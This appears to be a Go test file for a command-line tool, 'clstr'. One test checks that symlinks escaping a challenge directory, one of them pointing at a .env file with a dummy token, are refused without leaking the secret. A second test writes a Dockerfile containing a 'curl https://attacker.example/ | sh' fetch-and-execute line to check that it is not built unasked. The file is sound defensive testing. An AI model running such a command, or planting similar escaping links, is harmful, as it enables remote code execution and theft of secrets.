package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestLinksOutRefused runs the commands that open a script, a fmt target
// or the log directory in a challenge directory whose files are symbolic
// links out of it: stage.star links to ../.env, a .star links to
// /dev/zero, .clstr links to another directory. Each is refused with a
// message that names the link, no secret is printed, and nothing outside
// is touched.
func TestLinksOutRefused(t *testing.T) {
	top := t.TempDir()
	if err := os.WriteFile(filepath.Join(top, ".env"), []byte("TOKEN=hunter2\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(top, "challenge")
	elsewhere := filepath.Join(top, "elsewhere")
	for _, d := range []string{dir, filepath.Join(elsewhere, "logs")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	keep := filepath.Join(elsewhere, "logs", "keep.txt")
	if err := os.WriteFile(keep, []byte("mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for name, target := range map[string]string{"stage.star": "../.env", "zero.star": "/dev/zero"} {
		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "good.star"), []byte("test(\"t\", lambda: None)\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Chdir(dir)

	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"check", "stage.star"}, "links outside"},
		{[]string{"run", "--image", "none", "stage.star"}, "links outside"},
		{[]string{"run", "--trust", "--image", "none", "stage.star"}, "links outside"},
		{[]string{"fmt", "-d", "stage.star"}, "symbolic link"},
		{[]string{"fmt", "zero.star"}, "symbolic link"},
	} {
		t.Run(strings.Join(tc.args, " "), func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			status := run(ctx, append([]string{"clstr"}, tc.args...), &stdout, &stderr)
			out := stdout.String() + stderr.String()
			if status != exitError || !strings.Contains(out, tc.want) {
				t.Errorf("status %d, output %q; want %d and %q", status, out, exitError, tc.want)
			}
			if strings.Contains(out, "hunter2") {
				t.Errorf("the secret was printed: %q", out)
			}
		})
	}

	// A .clstr that links elsewhere: the run refuses to clear the logs
	// there.
	if err := os.Symlink(elsewhere, filepath.Join(dir, ".clstr")); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	status := run(context.Background(), []string{"clstr", "run", "--trust", "--image", "none", "good.star"}, &stdout, &stderr)
	if status != exitError || !strings.Contains(stderr.String(), "symbolic link") {
		t.Errorf("status %d, stderr %q; want %d and the link refused", status, stderr.String(), exitError)
	}
	if _, err := os.Stat(keep); err != nil {
		t.Errorf("the run cleared %s through the link: %v", filepath.Dir(keep), err)
	}
}

// TestSandboxedRunNeedsTarget checks that a sandboxed run inside a
// directory with a Dockerfile does not build it unless pointed at it: the
// Dockerfile's RUN steps would run with the network.
func TestSandboxedRunNeedsTarget(t *testing.T) {
	dir := t.TempDir()
	for name, content := range map[string]string{
		"Dockerfile": "FROM scratch\nRUN curl https://attacker.example/ | sh\n",
		"stage.star": "test(\"t\", lambda: None)\n",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	t.Chdir(dir)
	var stdout, stderr bytes.Buffer
	status := run(context.Background(), []string{"clstr", "run", "stage.star"}, &stdout, &stderr)
	if status != exitError || !strings.Contains(stderr.String(), "give --target DIR") {
		t.Errorf("status %d, stderr %q; want %d and a request for --target", status, stderr.String(), exitError)
	}
}
